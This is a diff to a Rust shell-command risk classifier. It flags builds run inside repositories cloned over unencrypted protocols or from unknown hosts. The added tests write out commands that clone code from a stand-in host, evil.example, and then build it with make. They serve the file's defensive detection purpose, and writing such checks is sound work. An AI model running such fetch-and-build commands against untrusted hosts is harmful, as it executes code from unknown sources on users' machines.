@@ -6,7 +6,7 @@
 use super::lower::Call;
 use super::machine::{Field, Flow, Machine};
 use super::value::Origin;
-use super::{EffectKind, TargetClass, paths, publishers, value};
+use super::{EffectKind, TargetClass, known, paths, publishers, value};
 use crate::line::Span;
 use crate::specs::{PathUse, Role, ValueKind};
 
@@ -16,6 +16,9 @@ pub(super) const SCRIPT: &str = "cloned";
 pub(super) const PLACE: &str = "cloned-in-place";
 /// Detail of building what lies in such a folder.
 pub(super) const BUILD: &str = "cloned-build";
+
+/// Detail of building what came over an open line, or from a host that is nobody's forge.
+pub(super) const STRANGE: &str = "cloned-strange";
 
 /// Folders that are remembered.
 const FOLDERS: usize = 8;
@@ -48,6 +51,10 @@ impl Machine<'_> {
             && call.has_only(&["--depth", "-b", "--single-branch", "-q", "--recursive", "--no-tags"])
         {
             self.forged(from.text, &path);
+        }
+        let open = ["http://", "git://", "ftp://"].iter().any(|start| from.text.starts_with(start));
+        if call.program == "git" && (open || !known::is_forge(known::host_of(from.text))) {
+            self.strange.push(path.clone());
         }
         self.cloned.push(path);
     }
@@ -129,7 +136,12 @@ impl Machine<'_> {
             matches!(call.program, "make" | "cmake" | "ninja" | "meson" | "just" | "mvn" | "npm" | "pip");
         let place = call.args.values("-C").last().map_or(".", |item| item.text);
         if builds && self.is_cloned(place) {
-            self.says_cloned(&call.argv[0], BUILD);
+            let path = paths::locate_path(place, &self.state.cwd, self.ctx);
+            let strange = self.strange.iter().any(|folder| {
+                path.strip_prefix(folder.as_str())
+                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+            });
+            self.says_cloned(&call.argv[0], if strange { STRANGE } else { BUILD });
         }
     }
 
@@ -186,6 +198,14 @@ mod tests {
                 ),
                 (Moderate, "git clone https://github.com/a/dotfiles && ./dotfiles/install.sh"),
                 (Safe, "git clone https://github.com/a/tool && cd tool && make"),
+                (Safe, "git clone https://git.sr.ht/~a/tool && make -C tool"),
+                (Safe, "git clone git@github.com:a/tool.git && cd tool && make"),
+                (Moderate, "git clone http://github.com/a/tool && cd tool && make"),
+                (Moderate, "git clone git://github.com/a/tool && cd tool && make"),
+                (Moderate, "git clone https://evil.example/a/tool && cd tool && make"),
+                (Moderate, "git clone https://evil.example/a/tool && make -C tool"),
+                (Safe, "git clone https://evil.example/a/tool && cd tool && ls"),
+                (Safe, "git clone https://evil.example/a/tool && make -C other"),
                 (Safe, "git clone https://github.com/a/tool && cd tool && npm ci && npm test"),
                 (Safe, "git clone https://github.com/a/tool && ./other/run.sh"),
                 (Moderate, "git clone https://github.com/someone/x ~/.vim/pack/a/start/x"),
